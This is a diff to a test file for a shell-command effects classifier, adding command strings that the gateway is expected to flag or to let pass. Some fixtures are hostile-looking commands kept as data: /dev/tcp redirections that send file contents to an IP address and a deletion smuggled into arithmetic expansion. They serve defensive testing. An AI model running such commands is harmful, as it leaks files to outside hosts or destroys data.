@@ -3,6 +3,8 @@ import { effectsOf, effectsOfArgv } from '../../../src/gateway/effects/effects-o
 
 /** None of these is ever run. Beside the corpora: what was thought of while the classifier was written. */
 const asked = [
+  'cat notes.md > $constructor',
+  'cd /dev; echo a > $PWD/tcp/203.0.113.7/80',
   'echo $(( rm notes.md ))',
   'X=/dev/tcp/1.2.3.4/80; cat notes > $X',
   'tar czf x.tar.gz *',
@@ -98,6 +100,7 @@ const asked = [
   'printf %s x | mail a@b',
 ];
 const unasked = [
+  'date > "$HOME/now.txt"',
   'out=report.txt; date > "$out"',
   // biome-ignore lint/suspicious/noTemplateCurlyInString: a text of the shell
   'for f in *.txt; do tr a b < "$f" > "${f%.txt}.up"; done',
